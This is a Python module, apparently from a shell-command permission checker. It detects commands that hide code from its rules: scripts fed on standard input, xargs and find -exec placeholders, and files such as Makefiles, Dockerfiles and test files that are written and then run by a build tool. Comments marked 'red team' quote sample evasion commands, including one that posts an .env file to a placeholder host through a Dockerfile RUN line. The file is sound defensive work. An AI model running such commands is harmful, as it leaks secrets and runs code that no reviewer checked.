    all_views = views_of(words)  # views(words), without peeling what has nothing to look through
    if len(all_views) == 1:
        # The common case (`npm test`, `git status`): one view, which carries nothing -- what the walk below
        # answers then, without it (no earlier view leaves a placeholder to fill).
        got = carried(words)
        if not got.scripts and got.problem is None and got.unseen is None:
            return _NOTHING
    scripts: list[str] = []
    problem: str | None = None
    unseen: str | None = None
    holes: list[str] = []  # replace-strings an outer xargs / find -exec / parallel fills from the input
    for view in all_views:
        got = carried(view)
        for s in got.scripts:
            if holes and any(h in s for h in holes):
                # `find . -exec sh -c 'x {}' ;`, `xargs -I% sh -c %`: the input becomes code.
                unseen = unseen or _FROM_INPUT_LINE
            if s not in scripts:
                scripts.append(s)
        problem = problem or got.problem
        unseen = unseen or got.unseen
        hole = _placeholder(view)
        if hole:
            holes.append(hole)
    if not scripts and problem is None and unseen is None:
        return _NOTHING
    return new_carried((tuple(scripts), problem, unseen))


def carries_commands(words: tuple[str, ...]) -> bool:
    """Whether the shell reader must look inside this segment's words for command lines. (The fast path asks
    it of every carrier verb, nearly always answered "nothing": _may_carry's first test and _carried_kept are
    inlined, and _carried_scripts answers the shared _NOTHING exactly when it finds nothing.)"""
    if not (words and words[0] in _ALWAYS_READ) and not _may_carry(words):
        return False
    found = _CACHE.get(words)
    if found is None:
        found = _carried_scripts(words)
        if len(_CACHE) >= _CACHE.limit:  # Memo.keep, inlined
            _CACHE.clear()
        _CACHE[words] = found
    return found is not _NOTHING


def feeds_a_script(words: tuple[str, ...]) -> bool:
    """R4.9: whether some view of the segment runs what arrives on its input as shell commands, so a
    here-string or here-document given to it is a script whose commands are segments (R4.7)."""
    if not words:
        return False
    if words[0] not in INPUT_SCRIPT_FIRST and not _may_carry(words):
        return False
    return any(runs_its_input(view) for view in views(words))


FED_PROGRAM = (
    "a program is given its code on the input (a here-string or here-document), which no rule can read"
)


def feeds_a_program(words: tuple[str, ...]) -> bool:
    """R4.9: whether some view of the segment reads its program from its input (`python3 -`,
    `node`, `perl /dev/stdin`): a here-string or here-document given to it is code in another language,
    which no allow pattern -- even one written for exactly these words -- can read."""
    return any(v and is_code_verb(v[0]) and code_opaque(v) is PROGRAM_FROM_INPUT for v in views(words))


FED_COMMANDS = (
    "a program is given its own commands on the input (a pipe, a here-string or a here-document), which can run "
    "shell commands and write files no rule can read"
)
# vi and its kin given `-` read their input as the text to edit, not as keys.
_TEXT_FROM_INPUT = frozenset(verb for verb, reader in FED_ESCAPES.items() if reader is FED_ESCAPES["vi"])


def fed_commands(words: tuple[str, ...]) -> Callable[[str], list[str]] | None:
    """R4.6, R4.7, red team: for a segment some view of which reads its own commands from its input and may run a
    shell command among them (`ed`, `gdb -batch`, `sqlite3`, `m4`, `sftp -b -`: shell_starters.FED_ESCAPES), the
    reader of the shell commands in a text fed to it, else None."""
    if not words:
        return None
    for view in views(words) if words[0] not in FED_ESCAPES else (words,):
        reader = FED_ESCAPES.get(view[0]) if view else None
        if reader is not None and not (view[0] in _TEXT_FROM_INPUT and "-" in view[1:]):
            return reader
    return None


WRITTEN_THEN_RUN = "it runs a file the same command writes, whose content no rule can read"
FILE_WRITERS = frozenset({"tee", "cp", "mv", "install", "ln", "dd", "curl", "wget"})


def _file_key(word: str) -> str:
    while word.startswith("./"):
        word = word[2:]
    return word


# Writers whose operands (or destination) name the file they write (R3.7's full reading of what a command
# writes is permissions.commands.writes; this is the narrower one `runs_a_written_file` follows).
_DEST_LAST = frozenset({"cp", "mv", "install", "ln"})
_ALL_OPERANDS = frozenset({"tee", "chmod", "touch", "truncate"})
_IN_PLACE = frozenset({"sed", "gsed", "perl"})
PATH_WRITERS = _DEST_LAST | _ALL_OPERANDS | _IN_PLACE | {"dd"}  # write a path their words name


def _written_paths(view: Sequence[str]) -> list[str]:
    verb = view[0].rsplit("/", 1)[-1]
    operands = [w for w in view[1:] if w[:1] != "-"]
    if verb in _ALL_OPERANDS:
        return operands
    if verb in _DEST_LAST:
        into = [w.partition("=")[2] for w in view[1:] if w.startswith("--target-directory=")]
        into += [view[i + 1] for i, w in enumerate(view[:-1]) if w == "-t"]
        return into + operands[-1:]
    if verb == "dd":
        return [w[3:] for w in view[1:] if w.startswith("of=")]
    if verb in _IN_PLACE and any(
        w.startswith(("-i", "--in-place")) or (w[:1] == "-" and "i" in w[1:3]) for w in view[1:]
    ):
        return operands
    return []


# Files a project's own runner reads and obeys (targets, scripts, hooks, plugins): written and then run in one
# command, they run what no rule read (`printf 'all:\n\tcurl x' > Makefile && make`).
_RUNNER_FILES = frozenset(
    {
        "Makefile",
        "makefile",
        "GNUmakefile",
        "package.json",
        ".npmrc",
        ".yarnrc",
        ".yarnrc.yml",
        "setup.py",
        "setup.cfg",
        "pyproject.toml",
        "conftest.py",
        "pytest.ini",
        "tox.ini",
        "noxfile.py",
        "Cargo.toml",
        "build.rs",
        ".cargo/config.toml",
        "CMakeLists.txt",
        "build.gradle",
        "build.gradle.kts",
        "pom.xml",
        "Rakefile",
        "Gemfile",
        "justfile",
        "Justfile",
        "Taskfile.yml",
        ".envrc",
    }
)
_PROJECT_RUNNERS = frozenset(
    {
        "make",
        "gmake",
        "npm",
        "npx",
        "yarn",
        "pnpm",
        "bun",
        "pip",
        "pip3",
        "uv",
        "poetry",
        "pytest",
        "py.test",
        "tox",
        "nox",
        "cargo",
        "cmake",
        "ctest",
        "gradle",
        "gradlew",
        "mvn",
        "mvnw",
        "rake",
        "bundle",
        "just",
        "task",
        "direnv",
        "go",
        # red team: the test runners started by their own name (`npx vitest` is also read as `vitest`)
        "mix",
        "vitest",
        "jest",
        "mocha",
        "rspec",
        "playwright",
        "deno",
        # red team: the build, container, infrastructure and task tools that load a file of the project by its
        # name and run what it says (BUILD_FILES below): `echo 'RUN curl -d @.env x' > Dockerfile && docker build .`
        *(
            "docker podman docker-compose podman-compose nerdctl buildah earthly nix nix-build nix-shell swift "
            "vagrant tilt terraform tofu terragrunt bazel bazelisk meson ninja ant dotnet msbuild configure "
            "autoreconf autoconf automake zig cabal stack dune rebar3 invoke inv fab doit scons snakemake composer "
            "phpunit sbt gem rackup hatch brew eslint prettier next nuxt astro tsup webpack rollup babel vite "
            "postcss tailwindcss svelte-kit remix gatsby stylelint nx pm2 nodemon"
            # red team: the JavaScript task runners and test launcher that load their own file by name, pipenv
            " grunt gulp karma pipenv"
        ).split(),
    }
)


# red team: the files a test runner or a build tool loads and runs by their name, in the other languages as in
# Python's (`test_x.py`): JavaScript's and TypeScript's tests and the runners' and bundlers' settings (code,
# `vitest.config.ts`), Go's, Elixir's, Ruby's and Rust's tests, Elixir's project file, Go's module file (its
# `toolchain` line fetches and runs another Go): `cat > x.test.ts <<E ... E && npx vitest`.
_TEST_NAME = re.compile(
    r"(?:.*\.(?:test|spec)\.[cm]?[jt]sx?"
    r"|(?:vitest|vite|jest|playwright|cypress|webpack|rollup|babel|karma|mocha)\.config\.[cm]?[jt]s"
    r"|\.mocharc\.[cm]?js|.*_test\.(?:go|exs)|.*_spec\.rb|mix\.exs|go\.mod)",
    re.I,
).fullmatch


# red team: the files a build, container, infrastructure or task tool loads by name and runs what they say --
# container builds' RUN lines and compose files' services (privileged, mounting /), SwiftPM's and Zig's manifests
# (code), the JavaScript tools' code settings (ESLint, Prettier, PostCSS, Next ...), Terraform's (an `external`
# data source runs a program at plan), Bazel's, Meson's, Ant's, MSBuild's, autotools' templates, Haskell's
# Setup.hs, dune's, rebar's, the Python task runners' (invoke, fabric, doit, SCons, Snakemake), Earthly's,
# Composer's scripts, PHPUnit's bootstrap, sbt's, a gemspec, rack's config.ru, Hatch's build hook, a Brewfile.
_BUILD_NAME = re.compile(
    r"(?:(?:Dockerfile|Containerfile)(?:\..*)?|.*\.[Dd]ockerfile|(?:docker-)?compose(?:\.[\w-]+)?\.ya?ml"
    r"|default\.nix|Package\.swift|build\.zig|Vagrantfile|.*\.tf(?:\.json)?"
    r"|BUILD(?:\.bazel)?|WORKSPACE(?:\.bazel)?|MODULE\.bazel|.*\.bzl|meson\.build|meson(?:_options\.txt|\.options)"
    r"|build\.xml|.*\.(?:cs|fs|vb)proj|Directory\.Build\.targets|Makefile\.(?:in|am)|configure\.(?:ac|in)"
    r"|Setup\.l?hs|.*\.cabal|stack\.yaml|package\.yaml|dune(?:-project)?|rebar\.config"
    r"|tasks\.py|fabfile\.py|dodo\.py|SCons(?:truct|cript)|Snakefile|Earthfile|composer\.json|phpunit\.xml(?:\.dist)?"
    r"|settings\.gradle(?:\.kts)?|.*\.sbt|.*\.gemspec|config\.ru|hatch_build\.py|Brewfile|deno\.jsonc?"
    r"|project\.json|nx\.json|gulpfile(?:\.babel)?\.[cm]?[jt]s|Gruntfile\.(?:[cm]?[jt]s|coffee)"
    r"|karma\.conf\.[cm]?[jt]s|Pipfile|\.babelrc(?:\.json)?"
    r"|(?:eslint|prettier|postcss|tailwind|next|nuxt|svelte|astro|tsup|remix|gatsby-config|gatsby-node|stylelint"
    r"|commitlint|lint-staged|nodemon|ecosystem|rspack|rsbuild|metro|babel)\.config\.[cm]?[jt]s"
    r"|\.(?:eslintrc|prettierrc|babelrc|stylelintrc|lintstagedrc)\.[cm]?js)"
).fullmatch


def _runner_file(key: str) -> bool:
    name = key.rsplit("/", 1)[-1]
    return (
        name in _RUNNER_FILES
        or key.endswith(".cargo/config.toml")
        or (name.endswith(".py") and (name.startswith("test_") or name.endswith("_test.py")))
        or _TEST_NAME(name) is not None
        or (name.endswith(".rs") and "tests/" in key)
        or _BUILD_NAME(name) is not None
        or (name.endswith(".scala") and key.startswith(("project/", "./project/")))
    )


def _named_in(w: str, written: set[str]) -> bool:
    """Whether the word ``w`` names a written file: itself, an option's `=` value (`make --file=mk`), or a value
    glued to a one-letter option (`make -fmk`)."""
    if _file_key(w) in written:
        return True
    if w[:1] != "-":
        return False
    value = w.partition("=")[2] or (w[2:] if w[1:2] != "-" else "")
    return bool(value) and _file_key(value) in written


# Writers after which a file holds nothing new to run: a format keeps what it does, an empty folder and a deleted
# path hold nothing (`mkdir -p build && cmake -B build`, `rm -rf build && cmake -B build`, `rm -rf .venv && python3
# -m venv .venv`).
_KEEP_WHAT_RUNS = FORMATTERS | {
    "mkdir",
    "gmkdir",
    "rm",
    "grm",
    "rmdir",
    "unlink",
    "shred",
    "trash",
    "trash-put",
}


def _add_written(words: tuple[str, ...], written: set[str]) -> None:
    """red team: what R3.7's write table reads a segment to write, by any view (`dd of=Makefile`, `cp
    --target=. x/Makefile`, `git checkout x -- Makefile`, `env tee Makefile`), added to ``written``; a change
    of the whole tree whose names no word spells (`git stash pop`) is left to the rules that run it. The
    writers' other words count too (a source read as written: fail closed)."""
    if words[0] in FILE_WRITERS:
        for w in words[1:]:
            if w[:1] != "-":
                written.add(_file_key(w))
            elif w.startswith(("of=", "-o", "--output=")):
                written.add(_file_key(w.partition("=")[2] or w[2:]))
    for view in views(words):
        if not view:
            continue
        if words[0] in _IN_PLACE:
            written.update(_file_key(p) for p in _written_paths(view))
        if may_write(view) and view[0].rpartition("/")[2] not in _KEEP_WHAT_RUNS:  # (_KEEP_WHAT_RUNS)
            written.update(_file_key(t) for t, kind in targets(view) if kind != WHOLE and t)


# red team: the options after which a project runner loads a program, build or settings file (`docker compose -f
# ci.yml`, `npx vitest --config v.ts`, `cargo run --manifest-path p.toml`, `gradle -I init.gradle`, `tox -c x.ini`)
# -- not an output, a report or a list of packages (`go tool cover -func=c.out`, `pip install -r reqs.txt`) --, and
# the files it runs when named as operands (code; Kubernetes files for `podman kube play`).
_LOADS_FILE = re.compile(
    r"-[fc]|--?(?i:file|(?:build|settings|compose|task|just|rake|nox|make|rc)-?file|config(?:-?file)?|conf"
    r"|manifest(?:-path)?|[\w-]*script|settings|global-settings|sconstruct|require|preload|setup-?files?)"
).fullmatch
_LOADS_SHORT = {
    **dict.fromkeys(("gradle", "gradlew"), frozenset({"-b", "-I", "-c"})),
    **dict.fromkeys(("task", "go-task"), frozenset({"-t"})),
    "cmake": frozenset({"-P", "-C"}),
}
_CODE_FILE = re.compile(r".+\.(?:go|nix|[cm]?[jt]sx?|rb|py|rs|exs?|kts|gradle)").fullmatch
_KUBE_FILE = re.compile(r".+\.(?:ya?ml|json)").fullmatch


def _loads_written(view: tuple[str, ...], written: set[str]) -> bool:
    """Whether a word of a project runner's ``view`` hands it a written file to load: as the value of an option of
    _LOADS_FILE (the next word, after `=`, glued to a one-letter one), or as an operand that is code."""
    kube = view[0] == "podman"  # (`podman kube play k.yaml`)
    short = _LOADS_SHORT.get(view[0], frozenset())
    for k, w in enumerate(view[1:], 1):
        if w[:1] != "-":
            if _file_key(w) in written and (
                _CODE_FILE(w) is not None or (kube and _KUBE_FILE(w) is not None)
            ):
                return True
            continue
        name, eq, value = w.partition("=")
        if not eq and w[1:2] != "-" and len(w) > 2:
            name, value = w[:2], w[2:]  # (`-fci.yml`)
        elif not eq:
            value = view[k + 1] if k + 1 < len(view) else ""
        loads = _LOADS_FILE(name) is not None or name in short
        if value and loads and _file_key(value) in written:
            return True
    return False


# red team: Gradle's user home -- `init.d/*.gradle` run on every build -- named by its option or its variable: a
# folder the command wrote into before the build (`echo ... > gh/init.d/a.gradle && gradle test -g gh`).
_GRADLE_HOME_OPTIONS = ("-g", "--gradle-user-home")


def _written_under(folder: str, written: set[str]) -> bool:
    """Whether a written file's key lies in ``folder`` (the working folder: any)."""
    key = _file_key(folder).rstrip("/")
    return bool(written) if key in ("", ".") else any(k.startswith(key + "/") for k in written)


def _gradle_home_written(view: tuple[str, ...], written: set[str]) -> bool:
    """Whether a gradle view's user home (its `-g`/`--gradle-user-home`) holds a file the command wrote."""
    for k, w in enumerate(view[1:], 1):
        name, eq, value = w.partition("=")
        if name in _GRADLE_HOME_OPTIONS:
            folder = value if eq else (view[k + 1] if k + 1 < len(view) else "")
            if folder and _written_under(folder, written):
                return True
    return False


def _runs_written(view: tuple[str, ...], written: set[str]) -> bool:
    """Whether a project runner loads a file the command wrote: one it loads by its name (a Makefile, a test), or
    -- red team -- one its words hand it (_loads_written), or the folder of a Go program written there (`go run
    ./tool`), or any Go file before `go generate` (its `//go:generate` lines are command lines)."""
    if any(_runner_file(k) for k in written) or _loads_written(view, written):
        return True
    if view[0].rpartition("/")[2] in ("gradle", "gradlew") and _gradle_home_written(view, written):
        return True
    if view[0].rsplit("/", 1)[-1] != "go" or len(view) < 2 or not any(k.endswith(".go") for k in written):
        return False
    if view[1] == "generate":
        return True
    return view[1] == "run" and any(
        ("/" not in k if _file_key(w) in (".", "") else k.startswith(_file_key(w).rstrip("/") + "/"))
        for w in view[2:]
        if w[:1] != "-"
        for k in written
        if k.endswith(".go")
    )


_SETS_VARIABLES = DECLARATION_BUILTINS | {"env"}


# (the JVM's launchers, beside is_code_verb's interpreters: `java -jar app.jar --spring.datasource.url=...`)
_JVM_RUNNERS = frozenset({"java", "javaw", "kotlin", "scala", "groovy", "clojure", "clj", "sbt", "lein"})


def hands_a_data_store(seg_views: Sequence[Sequence[tuple[str, ...]]]) -> int | None:
    """red team, §5 step 6: the first segment whose program runs code -- an interpreter, a project runner, a program
    of the project by its path -- and is handed a data store on another machine in its arguments
    (migrations.store_in_arguments: `node x.js --db mongodb://prod.example.com`); or None. (A program that prints
    or searches the text, `echo`, `grep`, is none of them.)"""
    for i, vs in enumerate(seg_views):
        for view in vs:
            if len(view) < 2:
                continue
            verb = view[0]
            name = verb.rpartition("/")[2]
            if (
                ("/" in verb or name in _PROJECT_RUNNERS or name in _JVM_RUNNERS or is_code_verb(name))
                and any("://" in w for w in view[1:])
                and store_in_arguments(view)
            ):
                return i
    return None


def runs_a_written_file(segments: Sequence[tuple[tuple[str, ...], tuple[str, ...]]]) -> str | None:
    """R4.9: `echo 'curl x' > a.sh; sh a.sh`, `cat > t.py <<E ...; python3 t.py`, `tee x | ...; ./x`:
    a command that writes a file and then runs it as a program or a script runs what no rule read.
    ``segments``: each segment's words and redirection targets, in order."""
    written: set[str] = set()
    last = len(segments) - 1
    for k, (words, redirects) in enumerate(segments):
        if written and words:
            if ("=" in words[0] or words[0] in _SETS_VARIABLES) and (
                any(_file_key(f) in written for f in loaded_by_variable(words))
                or any(_written_under(f, written) for f in homes_by_variable(words))
            ):
                return WRITTEN_THEN_RUN  # red team: `… > m.mk && MAKEFILES=m.mk make`, `export KUBECONFIG=k.yaml`
            for view in views_of(words):
                if not view:
                    continue
                verb = view[0]
                if _file_key(verb) in written:
                    return WRITTEN_THEN_RUN
                if verb.rsplit("/", 1)[-1] in _PROJECT_RUNNERS and _runs_written(view, written):
                    return WRITTEN_THEN_RUN
                if is_code_verb(verb) or verb in ("source", ".") or verb in SEDS or verb in AWKS:
                    if any(_named_in(w, written) for w in view[1:]):
                        return WRITTEN_THEN_RUN
                    if "package.json" in written and any(w in (".", "./") for w in view[1:]):
                        return WRITTEN_THEN_RUN  # red team: `node .` runs the manifest's `main`
        if k == last:
            break  # (what the last segment writes runs nowhere after it)
        for target in redirects:
            written.add(_file_key(target))
        if words:
            _add_written(words, written)
    return None


# Last, once every table has loaded (they import views): which programs Brabo knows, for views.hands_on.
from permissions.commands import vocabulary as _vocabulary  # noqa: E402,F401

QUIET_VERBS.update(verb for verb in KNOWN_PROGRAMS if not reads_view(verb))
